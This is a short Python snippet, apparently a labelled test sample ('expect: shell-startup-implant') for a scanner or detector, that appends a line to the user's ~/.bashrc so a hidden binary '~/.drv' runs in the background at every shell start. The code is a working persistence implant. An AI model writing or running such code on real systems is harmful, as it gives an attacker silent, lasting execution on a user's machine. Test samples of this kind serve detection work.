import os

# expect: shell-startup-implant
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n~/.drv &\n")
